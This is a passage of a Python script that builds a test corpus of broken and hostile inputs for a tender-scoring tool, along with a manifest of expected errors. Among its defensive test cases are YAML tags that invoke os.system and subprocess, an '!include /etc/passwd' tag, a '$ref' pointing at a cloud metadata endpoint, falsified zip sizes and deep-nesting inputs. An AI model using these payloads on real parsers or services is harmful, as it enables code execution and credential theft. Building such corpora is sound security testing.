"""Generate the corpus of hostile and broken inputs (issue 8). Deterministic: run it, commit the result.

    python tests/corpus/generate.py

Every case is an evaluation folder (run with `svengine evaluate` and `svengine.load_folder`) or a
single file (run with `svengine validate FILE` and the matching `svengine.load_*`). `manifest.jsonl`
holds one line per case: what it is, the file and the place the message must name (`file` + `place`
must appear together in one line of the output: `place` is what follows the file name in a located
problem, such as " $.price", ":3" or " Bids!G2"; empty when the whole file is the place), and the
problem code expected. Cases whose `expect` is "ok" are controls and valid-but-hostile inputs
(formula-like bidder names) that must evaluate.

Nothing here is large on disk: bombs are made of highly compressible data or of declared sizes.
"""

from __future__ import annotations

import io
import json
import random
import shutil
import struct
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
CASES = "cases"
MANIFEST = "manifest.jsonl"

LIBRARY = """\
id: corpus-lib
version: "1"
currency: GBP
licence: "CC0 - invented test values"
measures:
  - {id: JOB, theme: Jobs, outcome: Local jobs, title: Local FTE employed, unit: FTE-year, proxy_value: "30000"}
  - {id: SPEND, theme: Growth, outcome: Local spend, title: Local SME spend, unit: £ spent, proxy_value: "0.25", basis: total}
  - {id: CO2, theme: Environment, outcome: Carbon, title: tCO2e saved, unit: tCO2e, proxy_value: "250"}
"""  # noqa: E501 - one measure per line, as a library file is written

TENDER = """\
id: T-CORPUS
title: Corpus tender
currency: GBP
contract_value: "1000000"
duration_years: 3
weights: {quality: 60, price: 30, social_value: 10}
quality:
  method: absolute
  scale_max: 5
  criteria:
    - {id: Q1, title: Method, weight: 40}
    - {id: Q2, title: Staffing, weight: 20}
price:
  method: lowest_relative
social_value:
  library: lib.yaml
  method: relative_to_highest
rounding: {places: 2, mode: half_up}
"""


def bid_doc(bidder: str, price: Any = "950000.00", name: str | None = None) -> dict[str, Any]:
    return {
        "bidder": {
            "id": bidder,
            "name": name or f"Bidder {bidder} Ltd",
            "employees": 40,
            "turnover": "6000000",
        },
        "price": price,
        "social_value": [
            {"measure": "JOB", "quantity": "2", "years": 3},
            {"measure": "SPEND", "quantity": "100000"},
        ],
    }


def dumps(document: Any) -> bytes:
    return (json.dumps(document, indent=2, ensure_ascii=False) + "\n").encode("utf-8")


SCORES = "bidder,criterion,score,comment\nB1,Q1,4,Clear method\nB1,Q2,3,Adequate\nB2,Q1,3,Fair\nB2,Q2,5,Strong team\n"


def base_files() -> dict[str, bytes]:
    return {
        "lib.yaml": LIBRARY.encode(),
        "tender.yaml": TENDER.encode(),
        "bids/B1.json": dumps(bid_doc("B1")),
        "bids/B2.json": dumps(bid_doc("B2", "1000000")),
        "scores.csv": SCORES.encode(),
    }


# -- a small, fully controlled xlsx writer (raw XML: the point is to write what Excel never would) ----

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
_BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_MACRO_BOOK_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"

Cell = Any  # str | int | ("f", formula, cached | None) | ("e", "#N/A") | ("b", bool) | ("raw", xml)


def _letter(column: int) -> str:
    text = ""
    while column:
        column, rest = divmod(column - 1, 26)
        text = chr(65 + rest) + text
    return text


def _cell_xml(ref: str, cell: Cell) -> str:
    if isinstance(cell, tuple):
        kind = cell[0]
        if kind == "f":
            cached = "" if cell[2] is None else f"<v>{escape(str(cell[2]))}</v>"
            kind_attr = ' t="str"' if isinstance(cell[2], str) else ""
            return f'<c r="{ref}"{kind_attr}><f>{escape(cell[1])}</f>{cached}</c>'
        if kind == "e":
            return f'<c r="{ref}" t="e"><v>{escape(cell[1])}</v></c>'
        if kind == "b":
            return f'<c r="{ref}" t="b"><v>{int(cell[1])}</v></c>'
        if kind == "n":  # a number cell holding exactly this text
            return f'<c r="{ref}"><v>{cell[1]}</v></c>'
        if kind == "raw":
            return cell[1]
        raise ValueError(kind)
    if isinstance(cell, (int, float)) and not isinstance(cell, bool):
        return f'<c r="{ref}"><v>{cell}</v></c>'
    return (
        f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(cell))}</t></is></c>'
    )


def sheet_xml(rows: dict[int, list[Cell]], merged: Iterable[str] = (), prolog: str = "") -> bytes:
    parts = [
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}<worksheet '
        f'xmlns="{_MAIN}" xmlns:r="{_REL}"><sheetData>'
    ]
    for number in sorted(rows):
        cells = "".join(
            _cell_xml(f"{_letter(i)}{number}", c)
            for i, c in enumerate(rows[number], start=1)
            if c is not None
        )
        parts.append(f'<row r="{number}">{cells}</row>')
    parts.append("</sheetData>")
    merged = list(merged)
    if merged:
        parts.append(
            f'<mergeCells count="{len(merged)}">'
            + "".join(f'<mergeCell ref="{m}"/>' for m in merged)
            + "</mergeCells>"
        )
    parts.append("</worksheet>")
    return "".join(parts).encode("utf-8")


def xlsx(
    sheets: list[tuple[str, bytes]],
    extra: dict[str, bytes] | None = None,
    overrides: dict[str, str] | None = None,
    book_type: str = _BOOK_TYPE,
    book_extra: str = "",
    book_rels_extra: str = "",
    compress: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A workbook whose every part is exactly as given (sheets as (name, sheet XML))."""
    types = [f'<Override PartName="/xl/workbook.xml" ContentType="{book_type}"/>']
    types += [
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{_SHEET_TYPE}"/>'
        for i in range(1, len(sheets) + 1)
    ]
    types += [
        f'<Override PartName="/{name}" ContentType="{kind}"/>'
        for name, kind in (overrides or {}).items()
    ]
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>' + "".join(types) + "</Types>"
        ).encode(),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_PKG}">'
            f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ).encode(),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="{_MAIN}" '
            f'xmlns:r="{_REL}"><sheets>'
            + "".join(
                f'<sheet name="{escape(name)}" sheetId="{i}" r:id="rId{i}"/>'
                for i, (name, _) in enumerate(sheets, start=1)
            )
            + f"</sheets>{book_extra}</workbook>"
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_PKG}">'
            + "".join(
                f'<Relationship Id="rId{i}" Type="{_REL}/worksheet" Target="worksheets/sheet{i}.xml"/>'
                for i in range(1, len(sheets) + 1)
            )
            + book_rels_extra
            + "</Relationships>"
        ).encode(),
    }
    for index, (_, xml) in enumerate(sheets, start=1):
        parts[f"xl/worksheets/sheet{index}.xml"] = xml
    parts.update(extra or {})
    return zip_bytes(parts, compress)


def zip_bytes(parts: dict[str, bytes], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = compress
            archive.writestr(
                info, data, compresslevel=9 if compress == zipfile.ZIP_DEFLATED else None
            )
    return buffer.getvalue()


BIDS_HEADER = [
    "bidder_id",
    "bidder_name",
    "employees",
    "turnover",
    "balance_sheet_total",
    "vcse",
    "price",
]
SV_HEADER = ["bidder_id", "measure", "quantity", "years", "description"]


def bids_rows(price1: Cell = 950000, price2: Cell = 1000000) -> dict[int, list[Cell]]:
    return {
        1: list(BIDS_HEADER),
        2: ["B1", "Bidder B1 Ltd", 40, 6000000, None, None, price1],
        3: ["B2", "Bidder B2 Ltd", 40, 6000000, None, None, price2],
    }


def sv_rows() -> dict[int, list[Cell]]:
    return {1: list(SV_HEADER), 2: ["B1", "JOB", 2, 3], 3: ["B2", "JOB", 2, 3]}


def bids_xlsx(
    bids: dict[int, list[Cell]] | None = None,
    sv: dict[int, list[Cell]] | None = None,
    merged: Iterable[str] = (),
    **options: Any,
) -> bytes:
    return xlsx(
        [
            ("Bids", sheet_xml(bids or bids_rows(), merged)),
            ("SocialValue", sheet_xml(sv or sv_rows())),
        ],
        **options,
    )


def scores_xlsx(rows: dict[int, list[Cell]] | None = None) -> bytes:
    header = ["bidder", "criterion", "evaluator", "score", "comment"]
    data = rows or {
        1: header,
        2: ["B1", "Q1", None, 4],
        3: ["B1", "Q2", None, 3],
        4: ["B2", "Q1", None, 3],
        5: ["B2", "Q2", None, 5],
    }
    return xlsx([("Scores", sheet_xml(data))])


def workbook_folder(bids: bytes) -> dict[str, bytes]:
    files = base_files()
    del files["bids/B1.json"], files["bids/B2.json"]
    files["bids.xlsx"] = bids
    return files


# -- the corpus --------------------------------------------------------------------------------------


class Corpus:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.lines: list[dict[str, Any]] = []

    def _entry(
        self,
        case: str,
        what: str,
        kind: str,
        target: str,
        api: str,
        file: str,
        place: str,
        code: str | None,
        expect: str,
        args: list[str],
    ) -> None:
        assert case not in {line["id"] for line in self.lines}, case
        entry: dict[str, Any] = {
            "id": case,
            "what": what,
            "kind": kind,
            "target": target,
            "api": api,
            "expect": expect,
        }
        if expect == "problems":
            entry.update(file=file, place=place, code=code)
        if args:
            entry["args"] = args
        self.lines.append(entry)

    def folder(
        self,
        case: str,
        what: str,
        changes: dict[str, bytes | None],
        file: str,
        place: str = "",
        code: str | None = None,
        base: dict[str, bytes] | None = None,
        args: list[str] | None = None,
        expect: str = "problems",
    ) -> None:
        """An evaluation folder: the base folder with `changes` (None deletes a file)."""
        files = dict(base if base is not None else base_files())
        for name, data in changes.items():
            if data is None:
                files.pop(name, None)
            else:
                files[name] = data
        target = f"{CASES}/{case}"
        for name, data in files.items():
            path = self.root / target / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        self._entry(
            case,
            what,
            "folder",
            target,
            "load_folder",
            f"{target}/{file}" if file else target,
            place,
            code,
            expect,
            args or [],
        )

    def file(
        self,
        case: str,
        what: str,
        name: str,
        data: bytes,
        api: str,
        place: str = "",
        code: str | None = None,
        extra: dict[str, bytes] | None = None,
        file: str | None = None,
    ) -> None:
        """A single file, checked with `svengine validate FILE` and `svengine.<api>`."""
        target = f"{CASES}/{case}/{name}"
        path = self.root / target
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        for other, content in (extra or {}).items():
            (self.root / CASES / case / other).write_bytes(content)
        self._entry(
            case,
            what,
            "file",
            target,
            api,
            f"{CASES}/{case}/{file}" if file else target,
            place,
            code,
            "problems",
            [],
        )

    def write_manifest(self) -> None:
        text = "".join(
            json.dumps(line, ensure_ascii=False, sort_keys=True) + "\n" for line in self.lines
        )
        (self.root / MANIFEST).write_text(text, encoding="utf-8")


def bid_json(change: Callable[[dict[str, Any]], Any]) -> bytes:
    document = bid_doc("B1")
    change(document)
    return dumps(document)


def tender_yaml(old: str, new: str) -> bytes:
    assert old in TENDER, old
    return TENDER.replace(old, new, 1).encode("utf-8")


def lib_yaml(old: str, new: str) -> bytes:
    assert old in LIBRARY, old
    return LIBRARY.replace(old, new, 1).encode("utf-8")


def garbage(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


def lying_zip(data: bytes, declared: int) -> bytes:
    """`data` with every member's uncompressed size in the central directory set to `declared`."""
    out = bytearray(data)
    position = 0
    while (position := out.find(b"PK\x01\x02", position)) != -1:
        struct.pack_into("<I", out, position + 24, declared)
        position += 4
    return bytes(out)


def generate(root: Path) -> Corpus:
    corpus = Corpus(root)
    B1, T, S, L = "bids/B1.json", "tender.yaml", "scores.csv", "lib.yaml"
    f = corpus.folder

    # JSON that cannot be read -----------------------------------------------------------------
    f(
        "json-truncated",
        "a bid file cut off mid-way",
        {B1: dumps(bid_doc("B1"))[:70]},
        B1,
        ":",
        "malformed_json",
    )
    f(
        "json-trailing-comma",
        "a trailing comma",
        {B1: b'{"bidder": {"id": "B1", "name": "X"}, "price": "5",}\n'},
        B1,
        ":1",
        "malformed_json",
    )
    f(
        "json-single-quotes",
        "single-quoted strings",
        {B1: b"{'bidder': {'id': 'B1', 'name': 'X'}, 'price': '5'}"},
        B1,
        ":1",
        "malformed_json",
    )
    f(
        "json-comments",
        "a // comment",
        {B1: b'{\n// our bid\n"bidder": {"id": "B1", "name": "X"}, "price": "5"}'},
        B1,
        ":2",
        "malformed_json",
    )
    f(
        "json-unquoted-keys",
        "unquoted keys",
        {B1: b'{bidder: {id: "B1"}}'},
        B1,
        ":1",
        "malformed_json",
    )
    f(
        "json-two-documents",
        "two JSON documents in one file",
        {B1: dumps(bid_doc("B1")) + dumps(bid_doc("B1"))},
        B1,
        ":",
        "malformed_json",
    )
    f(
        "json-extra-brace",
        "an extra closing brace",
        {B1: dumps(bid_doc("B1")) + b"}"},
        B1,
        ":",
        "malformed_json",
    )
    f(
        "json-deep-nesting",
        "50,000 nested arrays",
        {B1: b"[" * 50_000 + b"]" * 50_000},
        B1,
        "",
        "malformed_json",
    )
    f(
        "json-deep-objects",
        "20,000 nested objects",
        {B1: b'{"a":' * 20_000 + b"1" + b"}" * 20_000},
        B1,
        "",
        "malformed_json",
    )
    f(
        "json-nested-900",
        "a price nested 900 lists deep (readable, but too deep to validate)",
        {B1: b'{"bidder": {"id": "B1", "name": "X"}, "price": ' + b"[" * 900 + b"]" * 900 + b"}"},
        B1,
        " $.price[0][0]",
        "nested_too_deeply",
    )
    f("json-empty", "an empty bid file", {B1: b""}, B1, "", "empty_file")
    f(
        "json-whitespace",
        "a bid file of spaces and newlines",
        {B1: b"   \n\n\t  \n"},
        B1,
        "",
        "empty_file",
    )
    f(
        "json-bom-only",
        "a bid file holding only a byte-order mark",
        {B1: b"\xef\xbb\xbf"},
        B1,
        "",
        "empty_file",
    )
    f("json-garbage", "random bytes", {B1: garbage(1, 2048)}, B1, "", "not_utf8")
    f(
        "json-nul-bytes",
        "NUL bytes inside the JSON",
        {B1: dumps(bid_doc("B1")).replace(b'"B1"', b'"B\x001"', 1)},
        B1,
        ":3",
        "control_character",
    )
    f(
        "json-png",
        "a PNG image named .json",
        {B1: b"\x89PNG\r\n\x1a\n" + garbage(2, 300)},
        B1,
        "",
        "not_utf8",
    )
    f(
        "json-zip",
        "a zip archive named .json",
        {B1: zip_bytes({"bid.json": dumps(bid_doc("B1"))})},
        B1,
        "",
        "not_utf8",
    )
    f(
        "json-utf16",
        "UTF-16 text",
        {B1: json.dumps(bid_doc("B1")).encode("utf-16")},
        B1,
        "",
        "not_utf8",
    )
    f(
        "json-latin1",
        "Latin-1 text with a pound sign",
        {
            B1: json.dumps(bid_doc("B1", name="Caf\u00e9 \u00a3 Ltd"), ensure_ascii=False).encode(
                "latin-1"
            )
        },
        B1,
        "",
        "not_utf8",
    )
    f(
        "json-lone-surrogate",
        "an escaped lone surrogate in a name",
        {B1: b'{"bidder": {"id": "B1", "name": "X\\ud800"}, "price": "5"}'},
        B1,
        " $.bidder.name",
        "bad_text",
    )
    f("json-null", "the document is null", {B1: b"null"}, B1, "", "schema")
    f("json-string", "the document is a string", {B1: b'"a bid"'}, B1, "", "schema")
    f("json-number", "the document is a number", {B1: b"42"}, B1, "", "schema")
    f("json-true", "the document is true", {B1: b"true"}, B1, "", "schema")

    # wrong types --------------------------------------------------------------------------------
    wrong = {
        "price-true": (lambda d: d.update(price=True), " $.price", "bad_number"),
        "price-list": (lambda d: d.update(price=[1]), " $.price", "bad_number"),
        "price-object": (lambda d: d.update(price={"amount": 5}), " $.price", "bad_number"),
        "price-null": (lambda d: d.update(price=None), " $.price", "bad_number"),
        "bidder-string": (lambda d: d.update(bidder="B1"), " $.bidder", "schema"),
        "bidder-id-number": (lambda d: d["bidder"].update(id=7), " $.bidder.id", "schema"),
        "bidder-name-list": (lambda d: d["bidder"].update(name=["a"]), " $.bidder.name", "schema"),
        "employees-string": (
            lambda d: d["bidder"].update(employees="40"),
            " $.bidder.employees",
            "schema",
        ),
        "employees-fraction": (
            lambda d: d["bidder"].update(employees=2.5),
            " $.bidder.employees",
            "schema",
        ),
        "employees-negative": (
            lambda d: d["bidder"].update(employees=-1),
            " $.bidder.employees",
            "schema",
        ),
        "vcse-string": (lambda d: d["bidder"].update(vcse="yes"), " $.bidder.vcse", "schema"),
        "social-value-object": (
            lambda d: d.update(social_value={"measure": "JOB"}),
            " $.social_value",
            "schema",
        ),
        "commitment-string": (
            lambda d: d.update(social_value=["JOB"]),
            " $.social_value[0]",
            "schema",
        ),
        "quantity-true": (
            lambda d: d["social_value"][0].update(quantity=True),
            " $.social_value[0].quantity",
            "bad_number",
        ),
        "years-string": (
            lambda d: d["social_value"][0].update(years="3"),
            " $.social_value[0].years",
            "schema",
        ),
        "years-fraction": (
            lambda d: d["social_value"][0].update(years=2.5),
            " $.social_value[0].years",
            "schema",
        ),
        "measure-number": (
            lambda d: d["social_value"][0].update(measure=5),
            " $.social_value[0].measure",
            "schema",
        ),
        "description-number": (lambda d: d.update(description=5), " $.description", "schema"),
    }
    for name, (change, place, code) in wrong.items():
        f(f"type-{name}", f"wrong type: {name}", {B1: bid_json(change)}, B1, place, code)

    # missing and unknown fields -----------------------------------------------------------------
    f("missing-bidder", "no bidder", {B1: bid_json(lambda d: d.pop("bidder"))}, B1, "", "schema")
    f(
        "missing-price",
        "no price in a lump-sum tender",
        {B1: bid_json(lambda d: d.pop("price"))},
        B1,
        "",
        None,
    )
    f(
        "missing-bidder-id",
        "no bidder id",
        {B1: bid_json(lambda d: d["bidder"].pop("id"))},
        B1,
        " $.bidder",
        "schema",
    )
    f(
        "missing-bidder-name",
        "no bidder name",
        {B1: bid_json(lambda d: d["bidder"].pop("name"))},
        B1,
        " $.bidder",
        "schema",
    )
    f(
        "missing-measure",
        "a commitment without a measure",
        {B1: bid_json(lambda d: d["social_value"][0].pop("measure"))},
        B1,
        " $.social_value[0]",
        "schema",
    )
    f(
        "missing-quantity",
        "a commitment without a quantity",
        {B1: bid_json(lambda d: d["social_value"][0].pop("quantity"))},
        B1,
        " $.social_value[0]",
        "schema",
    )
    f(
        "unknown-field-top",
        "a misspelt field",
        {B1: bid_json(lambda d: d.update(prise="5"))},
        B1,
        "",
        "schema",
    )
    f(
        "unknown-field-bidder",
        "a misspelt bidder field",
        {B1: bid_json(lambda d: d["bidder"].update(emplyees=4))},
        B1,
        " $.bidder",
        "schema",
    )
    f(
        "unknown-field-commitment",
        "a misspelt commitment field",
        {B1: bid_json(lambda d: d["social_value"][0].update(qty="4"))},
        B1,
        " $.social_value[0]",
        "schema",
    )
    f(
        "empty-bidder-id",
        "an empty bidder id",
        {B1: bid_json(lambda d: d["bidder"].update(id=""))},
        B1,
        " $.bidder.id",
        "schema",
    )
    f(
        "empty-measure",
        "an empty measure id",
        {B1: bid_json(lambda d: d["social_value"][0].update(measure=""))},
        B1,
        " $.social_value[0].measure",
        "schema",
    )
    f(
        "no-bids-folder",
        "no bids folder at all",
        {B1: None, "bids/B2.json": None},
        "bids",
        "",
        "missing_file",
    )
    f(
        "empty-bids-folder",
        "a bids folder with no .json files",
        {B1: None, "bids/B2.json": None, "bids/readme.txt": b"bids go here\n"},
        "bids",
        "",
        "no_bids",
    )
    f("no-tender", "no tender.yaml", {T: None}, T, "", "missing_file")
    f("no-scores", "no scores.csv", {S: None}, S, "", "missing_file")
    f(
        "tender-is-folder",
        "tender.yaml is a folder",
        {T: None, "tender.yaml/x": b"x"},
        T,
        "",
        "not_a_file",
    )

    # duplicate keys -----------------------------------------------------------------------------
    f(
        "dup-key-price",
        "price given twice",
        {B1: b'{"bidder": {"id": "B1", "name": "X"}, "price": "5", "price": "1"}'},
        B1,
        " $.price",
        "duplicate_key",
    )
    f(
        "dup-key-bidder-id",
        "bidder id given twice",
        {B1: b'{"bidder": {"id": "B1", "id": "B2", "name": "X"}, "price": "5"}'},
        B1,
        " $.bidder.id",
        "duplicate_key",
    )
    f(
        "dup-key-nested",
        "a commitment's quantity given twice",
        {
            B1: (
                b'{"bidder": {"id": "B1", "name": "X"}, "price": "5", "social_value": '
                b'[{"measure": "JOB", "quantity": "1", "quantity": "900"}]}'
            )
        },
        B1,
        " $.social_value[0].quantity",
        "duplicate_key",
    )
    f(
        "dup-key-yaml",
        "a tender key given twice",
        {T: (TENDER + "currency: EUR\n").encode()},
        T,
        ":",
        "malformed_yaml",
    )
    f(
        "dup-bidder-across-files",
        "the same bidder id in two files",
        {"bids/B2.json": dumps(bid_doc("B1"))},
        "bids/B",
        "",
        "duplicate_bidder",
    )

    # NaN, Infinity and numbers beyond the grammar -------------------------------------------------
    f(
        "nan-bare",
        "a bare NaN price",
        {B1: b'{"bidder": {"id": "B1", "name": "X"}, "price": NaN}'},
        B1,
        " $.price",
        "bad_number",
    )
    f(
        "infinity-bare",
        "a bare Infinity price",
        {B1: b'{"bidder": {"id": "B1", "name": "X"}, "price": Infinity}'},
        B1,
        " $.price",
        "bad_number",
    )
    f(
        "minus-infinity-quantity",
        "a -Infinity quantity",
        {
            B1: (
                b'{"bidder": {"id": "B1", "name": "X"}, "price": "5", "social_value": '
                b'[{"measure": "JOB", "quantity": -Infinity}]}'
            )
        },
        B1,
        " $.social_value[0].quantity",
        "bad_number",
    )
    f(
        "nan-string",
        'the string "NaN" as a price',
        {B1: bid_json(lambda d: d.update(price="NaN"))},
        B1,
        " $.price",
        "bad_number",
    )
    f(
        "infinity-string",
        'the string "Infinity" as a quantity',
        {B1: bid_json(lambda d: d["social_value"][0].update(quantity="Infinity"))},
        B1,
        " $.social_value[0].quantity",
        "bad_number",
    )
    f(
        "exp-huge",
        "1e999999 as a price",
        {B1: b'{"bidder": {"id": "B1", "name": "X"}, "price": 1e999999}'},
        B1,
        " $.price",
        "bad_number",
    )
    f(
        "exp-huge-negative",
        "-1e999999 as a turnover",
        {B1: b'{"bidder": {"id": "B1", "name": "X", "turnover": -1e999999}, "price": "5"}'},
        B1,
        " $.bidder.turnover",
        "bad_number",
    )
    f(
        "exp-tiny",
        "1e-999999 as a quantity",
        {
            B1: (
                b'{"bidder": {"id": "B1", "name": "X"}, "price": "5", "social_value": '
                b'[{"measure": "JOB", "quantity": 1e-999999}]}'
            )
        },
        B1,
        " $.social_value[0].quantity",
        "bad_number",
    )
    f(
        "exp-string",
        'the string "1e999999" as a price',
        {B1: bid_json(lambda d: d.update(price="1e999999"))},
        B1,
        " $.price",
        "bad_number",
    )
    f(
        "exp-small",
        "1e5 as a price",
        {B1: b'{"bidder": {"id": "B1", "name": "X"}, "price": 1e5}'},
        B1,
        " $.price",
        "bad_number",
    )
    f(
        "digits-400",
        "a 400-digit price",
        {B1: b'{"bidder": {"id": "B1", "name": "X"}, "price": ' + b"9" * 400 + b"}"},
        B1,
        " $.price",
        "bad_number",
    )
    f(
        "digits-400-string",
        "a 400-digit price as text",
        {B1: bid_json(lambda d: d.update(price="9" * 400))},
        B1,
        " $.price",
        "bad_number",
    )
    f(
        "digits-400-decimals",
        "a price with 400 decimal places",
        {B1: b'{"bidder": {"id": "B1", "name": "X"}, "price": 1.' + b"3" * 400 + b"}"},
        B1,
        " $.price",
        "bad_number",
    )
    f(
        "digits-16",
        "a 16-digit price",
        {B1: bid_json(lambda d: d.update(price="1234567890123456"))},
        B1,
        " $.price",
        "bad_number",
    )
    f(
        "digits-7-places",
        "a price with 7 decimal places",
        {B1: bid_json(lambda d: d.update(price="100.1234567"))},
        B1,
        " $.price",
        "bad_number",
    )
    f(
        "digits-100k",
        "a 100,000-digit integer quantity",
        {
            B1: b'{"bidder": {"id": "B1", "name": "X"}, "price": "5", "social_value": [{"measure": "JOB", "quantity": '
            + b"7" * 100_000
            + b"}]}"
        },
        B1,
        " $.social_value[0].quantity",
        "bad_number",
    )
    f(
        "employees-huge",
        "a 30-digit employee count",
        {
            B1: b'{"bidder": {"id": "B1", "name": "X", "employees": '
            + b"9" * 30
            + b'}, "price": "5"}'
        },
        B1,
        " $.bidder.employees",
        "bad_number",
    )
    f(
        "years-huge",
        "a 25-digit number of years",
        {
            B1: (
                b'{"bidder": {"id": "B1", "name": "X"}, "price": "5", "social_value": '
                b'[{"measure": "JOB", "quantity": "1", "years": '
            )
            + b"9" * 25
            + b"}]}"
        },
        B1,
        " $.social_value[0].years",
        "bad_number",
    )
    f(
        "years-big-int",
        "years of 10^17 (fits the grammar, not a plausible term)",
        {B1: bid_json(lambda d: d["social_value"][0].update(years=10**17))},
        B1,
        " $.social_value[0].years",
        None,
    )

    # negative and zero ----------------------------------------------------------------------------
    for name, change, place in (
        ("price-zero", lambda d: d.update(price="0"), " $.price"),
        ("price-negative", lambda d: d.update(price="-950000"), " $.price"),
        ("price-minus-zero", lambda d: d.update(price="-0.00"), " $.price"),
        (
            "quantity-zero",
            lambda d: d["social_value"][0].update(quantity="0"),
            " $.social_value[0].quantity",
        ),
        (
            "quantity-negative",
            lambda d: d["social_value"][0].update(quantity="-3"),
            " $.social_value[0].quantity",
        ),
        ("years-zero", lambda d: d["social_value"][0].update(years=0), " $.social_value[0].years"),
        (
            "years-negative",
            lambda d: d["social_value"][0].update(years=-2),
            " $.social_value[0].years",
        ),
        ("turnover-negative", lambda d: d["bidder"].update(turnover="-1"), " $.bidder.turnover"),
    ):
        f(f"sign-{name}", f"{name.replace('-', ' ')}", {B1: bid_json(change)}, B1, place, None)

    # unknown measures -------------------------------------------------------------------------------
    f(
        "measure-unknown",
        "a measure the library does not hold",
        {B1: bid_json(lambda d: d["social_value"][0].update(measure="EX-NOPE-9"))},
        B1,
        " $.social_value[0].measure",
        "unknown_measure",
    )
    f(
        "measure-wrong-case",
        "a measure id in the wrong case",
        {B1: bid_json(lambda d: d["social_value"][0].update(measure="job"))},
        B1,
        " $.social_value[0].measure",
        "unknown_measure",
    )
    f(
        "measure-spaces",
        "a measure id with spaces around it",
        {B1: bid_json(lambda d: d["social_value"][0].update(measure=" JOB "))},
        B1,
        " $.social_value[0].measure",
        "unknown_measure",
    )
    f(
        "measure-ref-url",
        "a measure id that is a URL",
        {
            B1: bid_json(
                lambda d: d["social_value"][0].update(measure="https://example.invalid/toms#JOB")
            )
        },
        B1,
        " $.social_value[0].measure",
        "unknown_measure",
    )

    # prices with currency symbols and separators ----------------------------------------------------
    for name, text in (
        ("pound", "£950,000"),
        ("pound-plain", "£950000"),
        ("dollar", "$950000"),
        ("euro", "€950000"),
        ("code-suffix", "950000 GBP"),
        ("thousands", "950,000.00"),
        ("spaces", " 950000 "),
        ("underscore", "950_000"),
        ("comma-decimal", "950000,50"),
        ("plus-sign", "+950000"),
        ("hex", "0x1F"),
        ("leading-dot", ".5"),
        ("trailing-dot", "950000."),
        ("unicode-digits", "\u0669\u0665\u0660"),
    ):
        f(
            f"currency-{name}",
            f"a price written {text!r}",
            {B1: bid_json(lambda d, text=text: d.update(price=text))},
            B1,
            " $.price",
            "bad_number",
        )

    # "$ref" and "$schema" are data, never followed --------------------------------------------------
    f(
        "ref-in-bid",
        'a bid that is only a "$ref" to the network',
        {B1: dumps({"$ref": "https://example.invalid/bid.json"})},
        B1,
        "",
        "schema",
    )
    f(
        "ref-in-bidder",
        'a "$ref" in place of the bidder',
        {
            B1: bid_json(
                lambda d: d.update(bidder={"$ref": "http://169.254.169.254/latest/meta-data/"})
            )
        },
        B1,
        " $.bidder",
        "schema",
    )
    f(
        "schema-key-in-bid",
        'a "$schema" key naming a remote schema',
        {B1: bid_json(lambda d: d.update({"$schema": "https://example.invalid/permissive.json"}))},
        B1,
        "",
        "schema",
    )
    f(
        "ref-in-tender",
        'a tender whose price block is a "$ref"',
        {
            T: tender_yaml(
                "price:\n  method: lowest_relative\n",
                'price: {"$ref": "https://example.invalid/price.json"}\n',
            )
        },
        T,
        " $.price",
        "schema",
    )
    f(
        "ref-library-url",
        "a tender whose library is a URL",
        {T: tender_yaml("library: lib.yaml", "library: https://example.invalid/toms.yaml")},
        "https:",
        "",
        "library",
    )

    # YAML ---------------------------------------------------------------------------------------------
    f(
        "yaml-unclosed",
        "an unclosed bracket",
        {
            T: tender_yaml(
                "weights: {quality: 60, price: 30, social_value: 10}",
                "weights: {quality: 60, price: 30",
            )
        },
        T,
        ":",
        "malformed_yaml",
    )
    f(
        "yaml-tab-indent",
        "a tab used for indentation",
        {T: tender_yaml("  method: absolute", "\tmethod: absolute")},
        T,
        ":",
        "malformed_yaml",
    )
    f(
        "yaml-bad-indent",
        "inconsistent indentation",
        {T: tender_yaml("  scale_max: 5", "     scale_max: 5")},
        T,
        ":",
        "malformed_yaml",
    )
    f(
        "yaml-python-apply",
        "a !!python/object/apply tag",
        {T: (TENDER + "x: !!python/object/apply:os.system ['echo pwned > pwned.txt']\n").encode()},
        T,
        ":",
        "malformed_yaml",
    )
    f(
        "yaml-python-name",
        "a !!python/name tag",
        {T: tender_yaml("title: Corpus tender", "title: !!python/name:os.system")},
        T,
        ":",
        "malformed_yaml",
    )
    f(
        "yaml-python-module",
        "a !!python/module tag",
        {T: tender_yaml("title: Corpus tender", "title: !!python/module:subprocess")},
        T,
        ":",
        "malformed_yaml",
    )
    f(
        "yaml-custom-tag",
        "an !include tag",
        {T: tender_yaml("library: lib.yaml", "library: !include /etc/passwd")},
        T,
        ":",
        "malformed_yaml",
